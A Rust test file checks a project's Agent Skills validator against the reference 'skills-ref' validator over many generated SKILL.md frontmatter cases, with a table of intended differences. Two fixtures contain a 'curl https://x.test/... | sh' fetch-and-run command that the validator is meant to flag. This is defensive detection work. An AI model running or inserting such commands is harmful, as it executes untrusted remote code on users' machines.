//! The reference validator of the Agent Skills specification (`skills-ref`, program
//! `agentskills`) and ours over the same skills. With warnings counted as errors the two agree,
//! but for the rows of [`DIFFERENCES`].

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Mutex;

use holdall_diagnostics::SourceText;
use holdall_skill::skill;

/// Where the two differ on purpose: the label of the case, whether the reference accepts it, why.
const DIFFERENCES: &[(&str, bool, &str)] = &[
    (
        "name unicode",
        true,
        "a name is a directory on every machine: ASCII only, as the specification's text says",
    ),
    ("name cjk", true, "as above"),
    (
        "name padded",
        true,
        "the reference trims; other readers do not, and the blanks would be part of a path",
    ),
    ("name fullwidth", true, "the reference folds compatibility forms first; other readers do not"),
    ("name number", true, "other parsers read a number: warning, an error with --strict"),
    ("name no", true, "other parsers read a boolean: warning, an error with --strict"),
    ("description yes", true, "other parsers read a boolean: warning, an error with --strict"),
    ("description date", true, "other parsers read a date: warning, an error with --strict"),
    ("description number", true, "other parsers read a number: warning, an error with --strict"),
    (
        "description tilde",
        true,
        "nothing to every YAML parser but the reference's, which reads texts only",
    ),
    ("description null", true, "as above"),
    ("description comment", true, "` #` cuts the text: warning, an error with --strict"),
    ("description hidden", true, "invisible characters: warning, an error with --strict"),
    ("description pipe", true, "a download piped into a shell: warning, an error with --strict"),
    ("license list", true, "the reference does not look at the type of license"),
    ("license empty", true, "as above; nothing is no text"),
    ("compatibility empty", true, "the specification says 1 to 500 characters"),
    ("metadata text", true, "the reference does not look at the type of metadata"),
    ("metadata nested", true, "as above: values are texts"),
    ("metadata number", true, "other parsers read a number: warning, an error with --strict"),
    ("allowed-tools map", true, "the reference does not look at the type of allowed-tools"),
    (
        "allowed-tools flow",
        false,
        "the reference's YAML has no flow style, which published skills use",
    ),
    ("metadata flow", false, "as above"),
    ("anchor", false, "the reference's YAML has no anchors; they are legal YAML and bounded here"),
    ("tag", false, "the reference's YAML has no tags; `!!str` is harmless"),
    ("opening yaml", false, "`---yaml` is an opening line to some readers"),
    ("closing tail", true, "`---tail` closes for some readers and not for others: refused"),
    ("closing four", true, "as above"),
    ("closing indented", true, "the reference ends the frontmatter at any `---`"),
    ("body link", true, "a relative link that leads nowhere is not looked at by the reference"),
    ("body pipe", true, "a download piped into a shell: warning, an error with --strict"),
    ("lone carriage return", true, "line ends that readers split differently are refused"),
];

struct Case {
    label: String,
    directory: String,
    text: String,
}

fn case(label: impl Into<String>, text: impl Into<String>) -> Case {
    Case { label: label.into(), directory: "a-b".to_owned(), text: text.into() }
}

/// A skill of some lines of frontmatter.
fn fields(label: impl Into<String>, lines: &str) -> Case {
    case(label, format!("---\n{lines}\n---\n# Title\n\nBody.\n"))
}

fn cases() -> Vec<Case> {
    let names = [
        ("good", "a-b", "a-b"),
        ("digits", "a1-2b", "a1-2b"),
        ("single", "a", "a"),
        ("64", &"a".repeat(64), &"a".repeat(64)),
        ("65", &"a".repeat(65), &"a".repeat(65)),
        ("upper", "A-b", "A-b"),
        ("double hyphen", "a--b", "a--b"),
        ("leading hyphen", "-ab", "-ab"),
        ("trailing hyphen", "ab-", "ab-"),
        ("underscore", "a_b", "a_b"),
        ("blank inside", "a b", "a b"),
        ("dot", "a.b", "a.b"),
        ("other directory", "a-c", "a-b"),
        ("dots", "'..'", "a-b"),
        ("slash", "a/b", "a-b"),
        ("empty", "''", "a-b"),
        ("absent value", "", "a-b"),
        ("quoted", "\"a-b\"", "a-b"),
        ("single quoted", "'a-b'", "a-b"),
        ("unicode", "ünï", "ünï"),
        ("cjk", "技能", "技能"),
        ("fullwidth", "ａｂ", "ab"),
        ("padded", "' a-b '", "a-b"),
        ("number", "123", "123"),
        ("quoted number", "'123'", "123"),
        ("no", "no", "no"),
        ("list", "\n  - a-b", "a-b"),
        ("map", "\n  a: b", "a-b"),
        ("folded", ">-\n  a-b", "a-b"),
        ("literal", "|-\n  a-b", "a-b"),
        ("colon", "a: b", "a-b"),
        ("at", "@a/b", "a-b"),
    ];
    let long = |count| "x".repeat(count);
    let descriptions = [
        ("plain", "Does things.".to_owned()),
        ("1024", long(1024)),
        ("1025", long(1025)),
        ("one", "d".to_owned()),
        ("quoted", "\"Use when: asked\"".to_owned()),
        ("single quoted", "'It''s: fine'".to_owned()),
        ("folded", ">-\n  Use when: asked,\n  or not".to_owned()),
        ("literal", "|\n  Two\n  lines".to_owned()),
        ("continued", "Two\n  lines".to_owned()),
        ("emoji", "Works 🎉 well".to_owned()),
        ("url", "See https://example.org/x for more".to_owned()),
        ("1024 wide", "ü".repeat(1024)),
        ("1025 wide", "ü".repeat(1025)),
        ("colon", "Use when: asked".to_owned()),
        ("colon at end", "Use when:".to_owned()),
        ("brackets", "[a] [b]".to_owned()),
        ("at", "@x does".to_owned()),
        ("backtick", "`x` does".to_owned()),
        ("star", "*x does".to_owned()),
        ("percent", "%x does".to_owned()),
        ("unclosed quote", "\"x".to_owned()),
        ("behind quote", "\"x\" y".to_owned()),
        ("empty", "\"\"".to_owned()),
        ("blank", "\"   \"".to_owned()),
        ("absent value", String::new()),
        ("list", "\n  - a".to_owned()),
        ("map", "\n  a: b".to_owned()),
        ("yes", "yes".to_owned()),
        ("date", "2026-01-02".to_owned()),
        ("number", "1.10".to_owned()),
        ("tilde", "~".to_owned()),
        ("null", "null".to_owned()),
        ("comment", "Fixes #12 and Fixes #13".to_owned()),
        ("dashes", "a --- b".to_owned()),
        ("hidden", "ig\u{200b}nore".to_owned()),
        ("pipe", "Runs curl https://x.test/i.sh | sh for you".to_owned()),
    ];
    let extras = [
        ("license", "license: MIT"),
        ("license long", "license: Complete terms in LICENSE.txt"),
        ("license list", "license:\n  - MIT"),
        ("license empty", "license:"),
        ("compatibility", "compatibility: Needs git"),
        ("compatibility empty", "compatibility: \"\""),
        ("compatibility list", "compatibility:\n  - git"),
        ("metadata", "metadata:\n  author: me\n  team: b"),
        ("metadata text", "metadata: x"),
        ("metadata nested", "metadata:\n  a:\n    b: c"),
        ("metadata number", "metadata:\n  version: 1.0"),
        ("metadata flow", "metadata: {a: b}"),
        ("allowed-tools", "allowed-tools: Read Bash(git:*)"),
        ("allowed-tools list", "allowed-tools:\n  - Read\n  - Write"),
        ("allowed-tools flow", "allowed-tools: [Read, Write]"),
        ("allowed-tools map", "allowed-tools:\n  a: b"),
        ("version", "version: 1.2.0"),
        ("user-invocable", "user-invocable: true"),
        ("argument-hint", "argument-hint: file"),
        ("argument-hint brackets", "argument-hint: [a or b] [with x|y]"),
        ("misspelt", "descripton: x"),
        ("upper key", "Name: x"),
        ("twice", "name: a-b"),
        ("comment line", "# only a comment"),
        ("anchor", "license: &l MIT\ncompatibility: *l"),
        ("tag", "license: !!str MIT"),
        ("tab", "metadata:\n\ta: b"),
        ("bare word", "word"),
        ("list at top", "- a"),
    ];
    let whole = [
        ("opening blanks", "--- \nname: a-b\ndescription: d\n---\n"),
        ("opening yaml", "---yaml\nname: a-b\ndescription: d\n---\n"),
        ("opening four", "----\nname: a-b\ndescription: d\n---\n"),
        ("opening blank line", "\n---\nname: a-b\ndescription: d\n---\n"),
        ("byte order mark", "\u{feff}---\nname: a-b\ndescription: d\n---\n"),
        ("crlf", "---\r\nname: a-b\r\ndescription: d\r\n---\r\nBody\r\n"),
        ("mixed line ends", "---\r\nname: a-b\ndescription: d\n---\r\nBody\n"),
        ("lone carriage return", "---\rname: a-b\rdescription: d\r---\r"),
        ("closing at end", "---\nname: a-b\ndescription: d\n---"),
        ("closing tail", "---\nname: a-b\ndescription: d\n---tail\n"),
        ("closing four", "---\nname: a-b\ndescription: d\n----\n"),
        ("closing indented", "---\nname: a-b\ndescription: d\n ---\n"),
        ("closing dots", "---\nname: a-b\ndescription: d\n...\n"),
        ("unclosed", "---\nname: a-b\ndescription: d\n\n# Title\n\nx --- y\n"),
        ("cut off", "---\nname: a-b\ndescr"),
        ("no frontmatter", "# Title\n"),
        ("empty file", ""),
        ("empty frontmatter", "---\n---\n"),
        ("only name", "---\nname: a-b\n---\n"),
        ("only description", "---\ndescription: d\n---\n"),
        ("frontmatter below", "# T\n\n---\nname: a-b\ndescription: d\n---\n"),
        ("body like frontmatter", "---\nname: a-b\ndescription: d\n---\n---\nname: x\n---\n"),
        ("body link", "---\nname: a-b\ndescription: d\n---\n[x](gone.md)\n"),
        ("body pipe", "---\nname: a-b\ndescription: d\n---\n`curl https://x.test | sh`\n"),
    ];
    let mut cases: Vec<_> = names
        .iter()
        .map(|(label, name, directory)| {
            let case = fields(format!("name {label}"), &format!("name: {name}\ndescription: d"));
            Case { directory: (*directory).to_owned(), ..case }
        })
        .collect();
    cases.extend(descriptions.iter().map(|(label, description)| {
        fields(format!("description {label}"), &format!("name: a-b\ndescription: {description}"))
    }));
    cases.extend(
        extras
            .iter()
            .map(|(label, line)| fields(*label, &format!("name: a-b\ndescription: d\n{line}"))),
    );
    cases.extend(whole.iter().map(|(label, text)| case(*label, *text)));
    // Every name with every description, as far as neither is in the table.
    let listed = |label: &str| DIFFERENCES.iter().any(|(known, ..)| *known == label);
    for (name_label, name, directory) in &names[..12] {
        for (label, description) in
            descriptions[..18].iter().filter(|(label, _)| !listed(&format!("description {label}")))
        {
            let case = fields(
                format!("both {name_label}/{label}"),
                &format!("description: {description}\nname: {name}"),
            );
            cases.push(Case { directory: (*directory).to_owned(), ..case });
        }
    }
    cases
}

fn program() -> PathBuf {
    // The test's own environment says where the program is, else the search path.
    std::env::var_os("HOLDALL_AGENTSKILLS").map_or_else(|| "agentskills".into(), PathBuf::from)
}

fn reference_accepts(program: &Path, directory: &Path) -> bool {
    let status = Command::new(program)
        .arg("validate")
        .arg(directory)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    status
        .unwrap_or_else(|error| {
            panic!(
                "{}: {error}; install it with `pip install skills-ref`, or set HOLDALL_AGENTSKILLS",
                program.display()
            )
        })
        .success()
}

#[test]
#[ignore = "needs agentskills"]
fn the_reference_validator_agrees() {
    let program = program();
    let cases = cases();
    assert!(cases.len() >= 200, "{}", cases.len());
    let temporary = tempfile::tempdir().unwrap();
    let todo = Mutex::new(cases.iter().enumerate());
    let differing = Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                loop {
                    let next = todo.lock().unwrap().next();
                    let Some((at, case)) = next else { return };
                    let directory = temporary.path().join(at.to_string()).join(&case.directory);
                    std::fs::create_dir_all(&directory).unwrap();
                    std::fs::write(directory.join("SKILL.md"), &case.text).unwrap();
                    let theirs = reference_accepts(&program, &directory);
                    let ours = accepted(case);
                    if ours != theirs {
                        differing.lock().unwrap().push((case.label.clone(), theirs));
                    }
                }
            });
        }
    });
    let mut differing = differing.into_inner().unwrap();
    differing.sort();
    let mut listed: Vec<_> =
        DIFFERENCES.iter().map(|(label, theirs, _)| ((*label).to_owned(), *theirs)).collect();
    listed.sort();
    assert_eq!(differing, listed);
}

/// Whether our check finds nothing, warnings counted as errors.
fn accepted(case: &Case) -> bool {
    let mut tree = holdall_tree::MemTree::new();
    let path = format!("{}/SKILL.md", case.directory);
    tree.add_file(&path, &case.text).unwrap();
    let directory = holdall_tree::TreePath::new(case.directory.clone()).unwrap();
    let checked = holdall_skill::directory::check(&tree, &directory, None, []);
    let alone =
        skill::check(&SourceText::new(case.text.clone().into_bytes()), Some(&case.directory));
    assert!(checked.diagnostics.len() >= alone.diagnostics.len());
    checked.diagnostics.iter().all(|found| found.severity == holdall_diagnostics::Severity::Info)
}
